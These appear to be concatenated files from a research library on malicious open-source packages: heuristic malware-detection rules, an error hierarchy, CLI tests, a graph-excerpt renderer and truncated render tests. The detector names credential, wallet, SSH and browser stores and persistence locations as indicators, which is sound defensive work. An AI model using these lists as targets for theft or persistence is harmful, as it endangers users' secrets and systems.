