"""Heuristic detection rules over package code and metadata.

A GuardDog-style rule set: each rule inspects an artifact's ASTs and
metadata and reports findings with a weight. Rules deliberately target
the *behaviours* the corpus exhibits (install hooks, env exfiltration,
download-and-execute, obfuscation, ...) rather than the generator's
templates, so the detector generalises to any package shaped like OSS
malware.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Callable, Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.ecosystem.package import PackageArtifact

#: Environment variables whose read is a strong exfiltration signal.
SENSITIVE_ENV_KEYS = (
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "NPM_TOKEN",
)

SENSITIVE_PATH_HINTS = (
    ".ssh",
    "Login Data",
    "known_hosts",
    "leveldb",
    "firefox",
    "wallet",
    "tdata",  # Telegram session store
)

PERSISTENCE_HINTS = (
    ".bashrc",
    ".zshrc",
    ".profile",
    "autostart",
    "crontab",
    "LaunchAgents",
)

NETWORK_CALLS = {
    "urlopen",
    "urlretrieve",
    "Request",
    "gethostbyname",
}


@dataclass(frozen=True)
class Finding:
    """One rule hit inside one file."""

    rule: str
    path: str
    detail: str
    weight: float


class Rule:
    """Base class: subclasses implement :meth:`scan_tree`."""

    name: str = "rule"
    weight: float = 1.0

    def scan(self, artifact: PackageArtifact) -> List[Finding]:
        findings: List[Finding] = []
        for path, source in artifact.code_files().items():
            try:
                tree = ast.parse(source)
            except SyntaxError:
                findings.append(
                    Finding(
                        rule="unparseable-code",
                        path=path,
                        detail="file does not parse",
                        weight=0.4,
                    )
                )
                continue
            findings.extend(self.scan_tree(artifact, path, tree, source))
        return findings

    def scan_tree(
        self, artifact: PackageArtifact, path: str, tree: ast.AST, source: str
    ) -> List[Finding]:  # pragma: no cover - abstract
        raise NotImplementedError


def _call_name(node: ast.Call) -> str:
    func = node.func
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return func.attr
    return ""


def _dotted(node: ast.AST) -> str:
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
    return ".".join(reversed(parts))


class InstallHookRule(Rule):
    """setup.py overriding the install command (install-time execution)."""

    name = "install-hook"
    weight = 2.0

    def scan_tree(self, artifact, path, tree, source):
        if path != "setup.py" and not path.endswith("/setup.py"):
            return []
        findings = []
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                bases = {_dotted(base) for base in node.bases}
                if any(base.endswith("install") for base in bases):
                    findings.append(
                        Finding(
                            rule=self.name,
                            path=path,
                            detail=f"custom install command {node.name!r}",
                            weight=self.weight,
                        )
                    )
        return findings


class EnvExfiltrationRule(Rule):
    """Reads sensitive environment variables."""

    name = "sensitive-env"
    weight = 1.6

    def scan_tree(self, artifact, path, tree, source):
        findings = []
        hits = [key for key in SENSITIVE_ENV_KEYS if key in source]
        for key in hits:
            findings.append(
                Finding(
                    rule=self.name,
                    path=path,
                    detail=f"references {key}",
                    weight=self.weight,
                )
            )
        return findings


class NetworkCallRule(Rule):
    """Outbound network calls (HTTP/DNS/raw sockets)."""

    name = "network-call"
    weight = 0.6

    def scan_tree(self, artifact, path, tree, source):
        findings = []
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = _call_name(node)
                if name in NETWORK_CALLS or (
                    name == "connect" and "socket" in source
                ):
                    findings.append(
                        Finding(
                            rule=self.name,
                            path=path,
                            detail=f"calls {name}()",
                            weight=self.weight,
                        )
                    )
        return findings


class ExecObfuscationRule(Rule):
    """exec/eval of decoded data; base64/zlib/rot13 layering."""

    name = "obfuscated-exec"
    weight = 2.2

    def scan_tree(self, artifact, path, tree, source):
        findings = []
        has_decode = any(
            token in source for token in ("b64decode", "b32decode", "rot13", "zlib")
        )
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and _call_name(node) in ("exec", "eval"):
                weight = self.weight if has_decode else 1.0
                findings.append(
                    Finding(
                        rule=self.name,
                        path=path,
                        detail="exec/eval"
                        + (" of decoded payload" if has_decode else ""),
                        weight=weight,
                    )
                )
        return findings


class DownloadExecuteRule(Rule):
    """Fetches a remote file and spawns it."""

    name = "download-execute"
    weight = 2.0

    def scan_tree(self, artifact, path, tree, source):
        fetches = any(
            isinstance(node, ast.Call)
            and _call_name(node) in ("urlretrieve", "urlopen")
            for node in ast.walk(tree)
        )
        spawns = any(
            isinstance(node, ast.Call)
            and _call_name(node) in ("Popen", "run", "call", "system")
            for node in ast.walk(tree)
        )
        if fetches and spawns:
            return [
                Finding(
                    rule=self.name,
                    path=path,
                    detail="downloads and spawns a payload",
                    weight=self.weight,
                )
            ]
        return []


class SensitivePathRule(Rule):
    """Touches browser profiles, SSH keys or token stores."""

    name = "sensitive-path"
    weight = 1.4

    def scan_tree(self, artifact, path, tree, source):
        findings = []
        for hint in SENSITIVE_PATH_HINTS:
            if hint in source:
                findings.append(
                    Finding(
                        rule=self.name,
                        path=path,
                        detail=f"touches {hint!r}",
                        weight=self.weight,
                    )
                )
        return findings


class SubprocessShellRule(Rule):
    """Shell execution of dynamic commands (reverse shells)."""

    name = "shell-exec"
    weight = 1.2

    def scan_tree(self, artifact, path, tree, source):
        findings = []
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and _call_name(node) in ("run", "Popen"):
                for keyword in node.keywords:
                    if keyword.arg == "shell" and getattr(keyword.value, "value", False) is True:
                        findings.append(
                            Finding(
                                rule=self.name,
                                path=path,
                                detail="subprocess with shell=True",
                                weight=self.weight,
                            )
                        )
        return findings


class ClipboardRule(Rule):
    """Clipboard read/write loops (address hijackers)."""

    name = "clipboard-access"
    weight = 1.2

    def scan_tree(self, artifact, path, tree, source):
        if "xclip" in source or "clipboard" in source.lower():
            return [
                Finding(
                    rule=self.name,
                    path=path,
                    detail="clipboard access",
                    weight=self.weight,
                )
            ]
        return []


class PersistenceRule(Rule):
    """Writes to shell startup files, autostart entries or crontabs."""

    name = "startup-persistence"
    weight = 1.8

    def scan_tree(self, artifact, path, tree, source):
        hits = [hint for hint in PERSISTENCE_HINTS if hint in source]
        if not hits:
            return []
        # a write must actually happen: open(..., 'a'/'w') or os.makedirs
        writes = any(
            isinstance(node, ast.Call)
            and _call_name(node) in ("open", "makedirs")
            for node in ast.walk(tree)
        )
        if not writes:
            return []
        return [
            Finding(
                rule=self.name,
                path=path,
                detail=f"writes to startup location ({', '.join(hits)})",
                weight=self.weight,
            )
        ]


class MetadataAnomalyRule(Rule):
    """Suspicious metadata: empty/boilerplate description, no homepage."""

    name = "metadata-anomaly"
    weight = 0.3

    def scan(self, artifact: PackageArtifact) -> List[Finding]:
        findings = []
        if not artifact.metadata.homepage:
            findings.append(
                Finding(
                    rule=self.name,
                    path="<metadata>",
                    detail="no homepage",
                    weight=self.weight,
                )
            )
        if len(artifact.metadata.description) < 8:
            findings.append(
                Finding(
                    rule=self.name,
                    path="<metadata>",
                    detail="empty/short description",
                    weight=self.weight,
                )
            )
        return findings

    def scan_tree(self, artifact, path, tree, source):  # pragma: no cover
        return []


#: The default rule set, in evaluation order.
DEFAULT_RULES: Tuple[Rule, ...] = (
    InstallHookRule(),
    EnvExfiltrationRule(),
    NetworkCallRule(),
    ExecObfuscationRule(),
    DownloadExecuteRule(),
    SensitivePathRule(),
    SubprocessShellRule(),
    ClipboardRule(),
    PersistenceRule(),
    MetadataAnomalyRule(),
)
