"""Exception hierarchy for the repro library.

Every error raised by the library derives from :class:`ReproError`, so
callers can catch one base type at the API boundary.

The hierarchy additionally splits along the *retryability* axis that the
:mod:`repro.reliability` primitives key off:

* :class:`TransientError` — the operation may succeed if repeated
  (network blips, mirror outages, slow fetches). ``retry_call`` retries
  these with backoff.
* :class:`PermanentError` — repeating the call cannot change the outcome
  (the package does not exist, the configuration is invalid). The
  resilience primitives re-raise these immediately, so retrying a
  permanent failure is a no-op by construction.

Errors that are neither are *programming* errors and propagate untouched.
"""

from __future__ import annotations

from typing import List, Optional


class ReproError(Exception):
    """Base class for all errors raised by this library."""


class TransientError(ReproError):
    """A failure that may resolve on retry (outage, timeout, truncation).

    ``kind`` tags the failure for the degradation report's per-kind
    accounting; fault-injection wrappers raise subclasses whose ``kind``
    matches the injected fault, so every injected fault is observable as
    exactly one transient error of that kind.
    """

    kind: str = "transient"


class PermanentError(ReproError):
    """A failure no amount of retrying can fix.

    :func:`repro.reliability.retry_call` re-raises these before its first
    backoff, which is what makes retrying a permanent error a no-op.
    """

    kind: str = "permanent"


class ConfigError(PermanentError):
    """An invalid configuration value was supplied."""


class RegistryError(ReproError):
    """Base class for registry errors."""


class DuplicatePackageError(RegistryError, PermanentError):
    """A (name, version) pair was published twice in the same registry."""


class PackageNotFoundError(RegistryError, PermanentError):
    """The requested (name, version) pair does not exist."""


class PackageRemovedError(RegistryError):
    """The requested package existed but has been removed by the registry."""


class ClockError(ReproError):
    """The simulation clock was used inconsistently (e.g. moved backwards)."""


class GraphError(ReproError):
    """Base class for property-graph errors."""


class NodeNotFoundError(GraphError):
    """A graph operation referenced a node id that does not exist."""


class EdgeTypeError(GraphError):
    """An unknown edge type was referenced."""


class EmbeddingError(ReproError):
    """Source code could not be embedded (unparseable and no fallback)."""


class CrawlError(TransientError):
    """The spider failed to fetch or parse a simulated web page.

    Transient: the paper's substrate is 68 crawled websites that go dark
    and come back; a failed crawl is worth retrying.
    """

    kind = "crawl"


class FetchUnreachableError(CrawlError):
    """A page fetch failed outright (connection refused / 5xx)."""

    kind = "fetch_unreachable"


class FetchTimeoutError(CrawlError):
    """A page fetch was so slow it timed out, consuming deadline budget."""

    kind = "fetch_timeout"


class TruncatedPageError(CrawlError):
    """A fetched page arrived truncated or corrupt (incomplete HTML)."""

    kind = "fetch_truncated"


class SiteOutageError(CrawlError):
    """A website's index page was unreachable (whole-site outage)."""

    kind = "site_outage"


class MirrorDownError(TransientError):
    """A mirror registry did not answer a lookup (down for a sync window).

    Raised mid-scan, so the sequential mirror search is inconclusive and
    must be retried as a whole to preserve the fault-free lookup order.
    """

    kind = "mirror_down"


class SourceOutageError(TransientError):
    """An open-dataset source feed did not answer at all."""

    kind = "feed_outage"


class FeedTruncatedError(TransientError):
    """An open-dataset feed emitted only a prefix of its records.

    Carries the partial emission so graceful degradation can fall back
    to the best partial feed seen when retries are exhausted.
    """

    kind = "feed_truncated"

    def __init__(self, message: str, partial: Optional[List] = None):
        super().__init__(message)
        self.partial: List = list(partial or [])


class CircuitOpenError(TransientError):
    """An operation was refused because its circuit breaker is open."""

    kind = "circuit_open"


class DatasetError(ReproError):
    """The collected dataset is inconsistent or malformed."""


class ValidationError(ReproError):
    """A request payload failed type or shape validation."""
