"""CLI commands (run in-process against a small world)."""

from __future__ import annotations

import json

import pytest

from repro.cli import EXPERIMENTS, build_parser, main

SMALL = ["--seed", "3", "--scale", "0.05"]


def test_experiment_registry_covers_all_paper_methods():
    from repro.paper import PaperArtifacts

    for method in EXPERIMENTS.values():
        assert hasattr(PaperArtifacts, method)
    assert len(EXPERIMENTS) == 16


def test_show_each_experiment(capsys):
    for key in ("table1", "table7", "fig12"):
        assert main(SMALL + ["show", key]) == 0
        out = capsys.readouterr().out
        assert out.strip()


def test_show_handles_missing_fig8(capsys):
    # tiny worlds may lack a qualifying Fig. 8 campaign; either output is fine
    assert main(SMALL + ["show", "fig8"]) == 0
    assert capsys.readouterr().out.strip()


def test_tables_renders_everything(capsys):
    assert main(SMALL + ["tables"]) == 0
    out = capsys.readouterr().out
    assert "Table I" in out
    assert "Fig. 12" in out
    assert "Table VIII" in out


def test_dataset_roundtrip(tmp_path, capsys):
    out_dir = tmp_path / "ds"
    assert main(SMALL + ["dataset", "--out", str(out_dir)]) == 0
    assert (out_dir / "entries.jsonl").exists()
    from repro.io.datasets import load_dataset

    assert len(load_dataset(out_dir)) > 0


def test_publish_command(tmp_path, capsys):
    out_dir = tmp_path / "site"
    assert main(SMALL + ["publish", "--out", str(out_dir)]) == 0
    index = json.loads((out_dir / "index.json").read_text())
    assert index["summary"]["packages"] > 0


def test_export_graphml(tmp_path, capsys):
    out_dir = tmp_path / "g"
    assert main(SMALL + ["export", "--out", str(out_dir), "--format", "graphml"]) == 0
    assert (out_dir / "malgraph.graphml").exists()


def test_export_csv_with_edge_filter(tmp_path, capsys):
    out_dir = tmp_path / "csv"
    code = main(
        SMALL
        + ["export", "--out", str(out_dir), "--format", "csv", "--edges", "dependency"]
    )
    assert code == 0
    edges = (out_dir / "edges.csv").read_text().splitlines()
    assert all("SIMILAR" not in line for line in edges)


def test_query_command(capsys):
    assert main(SMALL + ["query", "MATCH (a) RETURN count(*)"]) == 0
    out = capsys.readouterr().out
    assert "count(*)" in out


def test_query_command_error(capsys):
    assert main(SMALL + ["query", "MATCH oops"]) == 2
    assert "query error" in capsys.readouterr().err


def test_validate_command(capsys):
    assert main(SMALL + ["validate"]) == 0
    out = capsys.readouterr().out
    assert "ARI" in out


def test_insights_command(capsys):
    code = main(SMALL + ["insights"])
    out = capsys.readouterr().out
    assert "learned lessons" in out
    assert code in (0, 1)  # tiny worlds may not satisfy every lesson


def test_report_command_stdout(capsys):
    assert main(SMALL + ["report"]) == 0
    out = capsys.readouterr().out
    assert "# Evaluation report" in out
    assert "## table1" in out and "## fig12" in out


def test_report_command_file(tmp_path, capsys):
    target = tmp_path / "report.md"
    assert main(SMALL + ["report", "--out", str(target)]) == 0
    assert "## table8" in target.read_text()


def test_whatif_command(capsys):
    assert main(SMALL + ["whatif", "--scales", "0.5", "1.0"]) == 0
    out = capsys.readouterr().out
    assert "defender latency" in out
    assert "0.5x" in out


def test_census_command(capsys):
    assert main(SMALL + ["census"]) == 0
    assert "family census" in capsys.readouterr().out


def test_stability_command(capsys):
    assert main(SMALL + ["stability", "--snapshots", "3"]) == 0
    assert "Dynamic changing" in capsys.readouterr().out


def test_detect_command(capsys):
    assert main(SMALL + ["detect", "--sample", "20"]) == 0
    assert "precision" in capsys.readouterr().out


def test_scan_malicious_directory(tmp_path, capsys):
    from repro.malware.behaviors import get_behavior
    from repro.malware.codegen import generate_source_tree, make_style

    tree = generate_source_tree(get_behavior("credential-stealer"), make_style(1), "pkg_x")
    root = tmp_path / "suspicious-pkg"
    for path, source in tree.files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(source)
    assert main(SMALL + ["scan", str(root)]) == 1  # flagged
    assert "MALICIOUS" in capsys.readouterr().out


def test_scan_benign_directory(tmp_path, capsys):
    root = tmp_path / "nice-pkg"
    root.mkdir()
    (root / "util.py").write_text("def add(a, b):\n    return a + b\n")
    assert main(SMALL + ["scan", str(root)]) == 0
    assert "clean" in capsys.readouterr().out


def test_scan_bad_paths(tmp_path, capsys):
    assert main(SMALL + ["scan", str(tmp_path / "missing")]) == 2
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(SMALL + ["scan", str(empty)]) == 2


def test_enrich_command_unknown_name(capsys):
    assert main(SMALL + ["enrich", "surely-not-collected-zz"]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["verdict"] in ("unknown", "suspicious")
    assert set(payload) >= {"verdict", "matches", "families", "campaigns", "actors"}


def test_enrich_command_requires_indicator(capsys):
    assert main(SMALL + ["enrich"]) == 2
    assert "needs a package name" in capsys.readouterr().err


def test_enrich_help(capsys):
    with pytest.raises(SystemExit) as stop:
        main(SMALL + ["enrich", "--help"])
    assert stop.value.code == 0
    assert "--sha256" in capsys.readouterr().out


def test_serve_help(capsys):
    with pytest.raises(SystemExit) as stop:
        main(SMALL + ["serve", "--help"])
    assert stop.value.code == 0
    out = capsys.readouterr().out
    assert "--port" in out and "--cache" in out and "--verbose" in out
    assert "--webhook" in out


def test_feed_command_walks_everything(capsys):
    assert main(SMALL + ["feed"]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["generation"] == 0
    assert payload["total"] == len(payload["items"]) > 0
    first = payload["items"][0]
    assert first["type"] == "indicator"
    assert first["id"].startswith("indicator--")


def test_feed_command_pages_with_cross_process_cursors(capsys):
    """A cursor printed by one invocation keeps working in the next: the
    fresh process materialises the cursor's generation on demand."""
    assert main(SMALL + ["feed", "--limit", "5"]) == 0
    page = json.loads(capsys.readouterr().out)
    assert page["count"] == 5 and page["next_cursor"]
    assert main(
        SMALL + ["feed", "--cursor", page["next_cursor"], "--limit", "1000"]
    ) == 0
    rest = json.loads(capsys.readouterr().out)
    assert rest["offset"] == 5
    assert rest["count"] == page["total"] - 5
    assert rest["next_cursor"] is None


def test_feed_command_rejects_garbage_cursor(capsys):
    assert main(SMALL + ["feed", "--cursor", "!!!"]) == 2
    captured = capsys.readouterr()
    assert "bad cursor" in captured.err
    assert "Traceback" not in captured.err


def test_feed_command_writes_out_file(tmp_path, capsys):
    out = tmp_path / "feed.json"
    assert main(SMALL + ["feed", "--out", str(out)]) == 0
    assert "wrote" in capsys.readouterr().out
    payload = json.loads(out.read_text())
    assert payload["total"] == len(payload["items"])


def test_serve_exits_2_when_port_is_taken(capsys):
    import socket

    blocker = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        blocker.bind(("127.0.0.1", 0))
        blocker.listen(1)
        port = blocker.getsockname()[1]
        assert main(SMALL + ["serve", "--port", str(port)]) == 2
    finally:
        blocker.close()
    captured = capsys.readouterr()
    assert "already in use" in captured.err
    assert "Traceback" not in captured.err


def test_collect_without_faults(capsys):
    assert main(SMALL + ["collect"]) == 0
    out = capsys.readouterr().out
    assert "collected" in out
    assert "degradation" not in out  # no plan, no report


def test_collect_moderate_plan_recovers(capsys):
    code = main(
        SMALL + ["collect", "--fault-plan", "moderate", "--fault-seed", "11"]
    )
    assert code == 0
    out = capsys.readouterr().out
    assert "degradation: fully recovered" in out
    assert "faults injected" in out


def test_collect_heavy_plan_exits_3_unless_allowed(tmp_path, capsys):
    report_path = tmp_path / "degradation.json"
    code = main(
        SMALL
        + [
            "collect",
            "--fault-plan", "heavy",
            "--fault-seed", "11",
            "--degradation-json", str(report_path),
        ]
    )
    assert code == 3  # degraded without --allow-degraded
    assert "degradation: DEGRADED" in capsys.readouterr().out
    payload = json.loads(report_path.read_text())
    assert payload["degraded"] is True
    assert sum(payload["faults_injected"].values()) == (
        payload["errors_recovered"] + payload["errors_fatal"]
    )
    # opting in turns the same run into a success
    assert main(
        SMALL
        + ["collect", "--fault-plan", "heavy", "--fault-seed", "11",
           "--allow-degraded"]
    ) == 0


def test_collect_custom_plan_file_and_out(tmp_path, capsys):
    from repro.reliability import FaultPlan

    plan_path = tmp_path / "plan.json"
    plan_path.write_text(json.dumps(FaultPlan.moderate(seed=7).to_dict()))
    out_dir = tmp_path / "ds"
    code = main(
        SMALL
        + ["collect", "--fault-plan", str(plan_path), "--out", str(out_dir)]
    )
    assert code == 0
    assert (out_dir / "entries.jsonl").exists()
    assert "wrote dataset" in capsys.readouterr().out


def test_collect_moderate_with_two_dark_sources_exits_3(tmp_path, capsys):
    """The acceptance scenario: moderate faults plus two sources forced
    dark completes degraded (exit 3) with exact DegradationReport books."""
    import dataclasses

    from repro.reliability import FaultPlan

    plan = dataclasses.replace(
        FaultPlan.moderate(seed=11), dark_sources=("maloss", "datadog")
    )
    plan_path = tmp_path / "plan.json"
    plan_path.write_text(json.dumps(plan.to_dict()))
    report_path = tmp_path / "degradation.json"
    code = main(
        SMALL
        + ["collect", "--fault-plan", str(plan_path),
           "--degradation-json", str(report_path)]
    )
    assert code == 3
    assert "degradation: DEGRADED" in capsys.readouterr().out
    payload = json.loads(report_path.read_text())
    assert payload["degraded"] is True
    assert set(payload["skipped_sources"]) >= {"maloss", "datadog"}
    assert sum(payload["faults_injected"].values()) == (
        payload["errors_recovered"] + payload["errors_fatal"]
    )
    # the dark feeds burned their whole retry budget before being skipped
    assert payload["feed_attempts"]["maloss"] > 2
    assert payload["feed_attempts"]["datadog"] > 2
    # opting in accepts the same degraded run
    assert main(
        SMALL + ["collect", "--fault-plan", str(plan_path), "--allow-degraded"]
    ) == 0


def test_collect_rejects_bad_preset():
    with pytest.raises(FileNotFoundError):
        main(SMALL + ["collect", "--fault-plan", "nonsense"])


def test_warm_command(tmp_path, capsys):
    cache = tmp_path / "cache"
    assert main(SMALL + ["--cache-dir", str(cache), "warm"]) == 0
    out = capsys.readouterr().out
    assert "pipeline report" in out
    assert str(cache) in out
    assert (cache / "collection").exists()
    assert (cache / "malgraph").exists()


def test_warm_accepts_jobs_after_the_subcommand(tmp_path, capsys):
    cache = tmp_path / "cache"
    argv = SMALL + ["--cache-dir", str(cache), "--no-disk-cache", "warm", "--jobs", "1"]
    assert main(argv) == 0
    assert "pipeline report" in capsys.readouterr().out


def test_warm_jobs_after_subcommand_does_not_clobber_global(tmp_path, capsys):
    cache = tmp_path / "cache"
    argv = SMALL + ["--cache-dir", str(cache), "--no-disk-cache", "--jobs", "1", "warm"]
    assert main(argv) == 0
    assert "pipeline report" in capsys.readouterr().out


def test_warm_with_no_disk_cache_writes_nothing(tmp_path, capsys):
    cache = tmp_path / "cache"
    assert main(SMALL + ["--cache-dir", str(cache), "--no-disk-cache", "warm"]) == 0
    assert "disk cache: disabled" in capsys.readouterr().out
    assert not cache.exists()


def test_cache_info_and_clear(tmp_path, capsys):
    cache = tmp_path / "cache"
    assert main(SMALL + ["--cache-dir", str(cache), "warm"]) == 0
    capsys.readouterr()

    assert main(SMALL + ["--cache-dir", str(cache), "cache", "info"]) == 0
    out = capsys.readouterr().out
    assert "collection" in out and "malgraph" in out
    assert "embeddings" in out
    assert "seed=3" in out

    # collection + malgraph + the embeddings tier written during the build
    assert main(SMALL + ["--cache-dir", str(cache), "cache", "clear"]) == 0
    assert "removed 3 cache entries" in capsys.readouterr().out

    assert main(SMALL + ["--cache-dir", str(cache), "cache", "info"]) == 0
    assert "no cached artifacts" in capsys.readouterr().out


def test_report_flags(tmp_path, capsys):
    cache = tmp_path / "cache"
    target = tmp_path / "report.json"
    code = main(
        SMALL
        + ["--cache-dir", str(cache), "--report", "--report-json", str(target)]
        + ["show", "table2"]
    )
    assert code == 0
    assert "pipeline report" in capsys.readouterr().err
    payload = json.loads(target.read_text())
    assert set(payload) == {"counts", "runs", "substages", "total_seconds"}
    assert payload["counts"]["malgraph"]["misses"] == 1
    assert {sub["name"] for sub in payload["substages"]} == {
        "embed",
        "cluster",
        "split",
    }


def test_warmed_cache_reused_across_invocations(tmp_path, capsys):
    cache = tmp_path / "cache"
    assert main(SMALL + ["--cache-dir", str(cache), "warm"]) == 0
    capsys.readouterr()
    target = tmp_path / "report.json"
    # configure() in main() replaces the in-memory store, so this
    # invocation resolves purely from the warmed disk tier.
    assert main(
        SMALL
        + ["--cache-dir", str(cache), "--report-json", str(target)]
        + ["show", "table2"]
    ) == 0
    counts = json.loads(target.read_text())["counts"]
    for stage in ("world", "collection", "malgraph"):
        assert counts[stage] == {"hits": 1, "misses": 0}, counts


def test_parser_requires_command():
    with pytest.raises(SystemExit):
        build_parser().parse_args([])


def test_version_flag(capsys):
    with pytest.raises(SystemExit) as stop:
        main(["--version"])
    assert stop.value.code == 0
    assert "repro 1" in capsys.readouterr().out


def test_update_command_evolves_a_bundle(tmp_path, capsys):
    from repro.core.delta.events import GraphEvent, events_to_jsonl
    from repro.core.malgraph import MalGraph
    from repro.io.malgraphs import load_malgraph_bundle, save_malgraph_bundle

    from tests.core.helpers import dataset, entry, report

    shared = "def payload():\n    return 'twin'\n"
    ds = dataset([entry("seed-a", code=shared)])
    bundle = tmp_path / "bundle"
    save_malgraph_bundle(MalGraph.build(ds), bundle)
    twin = entry("late-twin", code=shared)
    events_path = events_to_jsonl(
        [
            GraphEvent.package_added(twin),
            GraphEvent.report_ingested(
                report("r-x", [twin.package, ds.entries[0].package])
            ),
        ],
        tmp_path / "events.jsonl",
    )
    assert main(["update", "--graph", str(bundle), str(events_path)]) == 0
    out = capsys.readouterr().out
    assert "epoch 1" in out and "2 events" in out
    evolved = load_malgraph_bundle(bundle)  # updated in place
    assert evolved.dataset.get(twin.package) is not None
    assert evolved.graph.has_node(f"pypi:{twin.package.name}@1.0")


def test_update_command_writes_to_out_dir(tmp_path, capsys):
    from repro.core.delta.events import GraphEvent, events_to_jsonl
    from repro.core.malgraph import MalGraph
    from repro.io.malgraphs import (
        canonical_malgraph_json,
        load_malgraph_bundle,
        save_malgraph_bundle,
    )

    from tests.core.helpers import dataset, entry

    ds = dataset([entry("seed-a")])
    bundle = tmp_path / "bundle"
    save_malgraph_bundle(MalGraph.build(ds), bundle)
    before = canonical_malgraph_json(load_malgraph_bundle(bundle))
    events_path = events_to_jsonl(
        [GraphEvent.package_added(entry("other", code="x = 1\n"))],
        tmp_path / "events.jsonl",
    )
    out_dir = tmp_path / "evolved"
    assert main(
        ["update", "--graph", str(bundle), str(events_path), "--out", str(out_dir)]
    ) == 0
    # source bundle untouched; target holds the evolved graph
    assert canonical_malgraph_json(load_malgraph_bundle(bundle)) == before
    evolved = load_malgraph_bundle(out_dir)
    assert evolved.dataset.get(entry("other").package) is not None


def test_update_command_error_paths(tmp_path, capsys):
    from repro.core.delta.events import GraphEvent, events_to_jsonl
    from repro.core.malgraph import MalGraph
    from repro.io.malgraphs import save_malgraph_bundle

    from tests.core.helpers import dataset, entry

    events_path = events_to_jsonl(
        [GraphEvent.package_added(entry("other", code="x = 1\n"))],
        tmp_path / "events.jsonl",
    )
    # missing bundle directory
    assert main(["update", "--graph", str(tmp_path / "nope"), str(events_path)]) == 2
    # empty events file
    bundle = tmp_path / "bundle"
    save_malgraph_bundle(MalGraph.build(dataset([entry("seed-a")])), bundle)
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    assert main(["update", "--graph", str(bundle), str(empty)]) == 2
    # invalid batch: adding a package that already exists
    bad = events_to_jsonl(
        [GraphEvent.package_added(entry("seed-a"))], tmp_path / "bad.jsonl"
    )
    assert main(["update", "--graph", str(bundle), str(bad)]) == 2
    err = capsys.readouterr().err
    assert "update error" in err
