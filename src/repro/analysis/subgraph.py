"""Fig. 3 — one example of an OSS malicious package group.

The paper's Figure 3 shows a small MALGRAPH excerpt: a handful of
packages connected by a mix of the four edge types. This module picks a
representative excerpt from the built graph — a similarity group whose
members also share signatures, reports or dependencies — and renders it
as an edge listing plus a DOT snippet suitable for plotting.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.render import render_table
from repro.core.graph import EdgeType
from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph


@dataclass
class ExampleSubgraph:
    """A small excerpt of MALGRAPH for display."""

    nodes: List[str]  # node ids
    names: Dict[str, str]  # node id -> package name
    edges: List[Tuple[str, str, EdgeType]]

    @property
    def edge_kinds(self) -> List[EdgeType]:
        return sorted({t for _u, _v, t in self.edges}, key=lambda t: t.value)

    def render(self) -> str:
        rows = [
            [self.names[u], f"-[{t.value}]-", self.names[v]]
            for u, v, t in self.edges
        ]
        return render_table(
            ["package", "relationship", "package"],
            rows,
            title=(
                f"Fig. 3: example malicious package group "
                f"({len(self.nodes)} packages, "
                f"{len(self.edges)} edges, "
                f"{len(self.edge_kinds)} relationship kinds)"
            ),
        )

    def to_dot(self) -> str:
        colors = {
            EdgeType.DUPLICATED: "firebrick",
            EdgeType.DEPENDENCY: "darkorange",
            EdgeType.SIMILAR: "steelblue",
            EdgeType.COEXISTING: "seagreen",
        }
        lines = ["graph fig3 {", "  node [shape=box, fontsize=9];"]
        for node in self.nodes:
            lines.append(f'  "{self.names[node]}";')
        for u, v, t in self.edges:
            lines.append(
                f'  "{self.names[u]}" -- "{self.names[v]}" '
                f"[color={colors[t]}, label=\"{t.value}\"];"
            )
        lines.append("}")
        return "\n".join(lines)


def _edges_among(
    malgraph: MalGraph, nodes: Sequence[str]
) -> List[Tuple[str, str, EdgeType]]:
    edges = []
    for edge_type in EdgeType:
        for i, u in enumerate(nodes):
            for v in nodes[i + 1:]:
                if malgraph.graph.has_edge(u, v, edge_type):
                    edges.append((u, v, edge_type))
    return edges


def compute_example_subgraph(
    malgraph: MalGraph, max_nodes: int = 8
) -> Optional[ExampleSubgraph]:
    """Pick a Fig. 3-style excerpt: a small group rich in edge kinds.

    Candidate node sets are small similarity groups; the one whose
    members are linked by the most relationship kinds wins (Fig. 3 shows
    duplicated, similar and co-existing edges in one cluster).
    """
    from repro.core.edges import node_id

    best: Optional[ExampleSubgraph] = None
    best_key = (-1, -1)
    for group in malgraph.groups(GroupKind.SG):
        if group.size < 3:
            continue
        members = group.members[:max_nodes]
        nodes = [node_id(m.package) for m in members]
        edges = _edges_among(malgraph, nodes)
        kinds = len({t for _u, _v, t in edges})
        key = (kinds, -group.size)  # most kinds; tie-break to small groups
        if key > best_key:
            best_key = key
            names = {
                node_id(m.package): m.package.name for m in members
            }
            best = ExampleSubgraph(nodes=nodes, names=names, edges=edges)
        if best_key[0] >= 3:
            break
    return best
