"""ASCII renderers for tables, bars, CDFs, box series and timelines."""

from __future__ import annotations

from repro.analysis.render import (
    render_bars,
    render_box_series,
    render_cdf,
    render_table,
    render_timeline,
)
from repro.analysis.stats import BoxStats, CdfPoint


def test_render_table_alignment():
    out = render_table(["name", "n"], [["alpha", 1], ["b", 22]], title="T")
    lines = out.splitlines()
    assert lines[0] == "T"
    assert "name" in lines[1]
    assert set(lines[2]) <= {"-", " "}
    # right-aligned numeric column: widths consistent
    assert len(lines[3]) == len(lines[4])


def test_render_table_first_column_left_aligned():
    out = render_table(["source", "count"], [["x", 5], ["longer", 7]])
    rows = out.splitlines()[2:]
    assert rows[0].startswith("x ")
    assert rows[1].startswith("longer")


def test_render_bars_scales_to_peak():
    out = render_bars(["a", "b"], [10.0, 5.0], width=10)
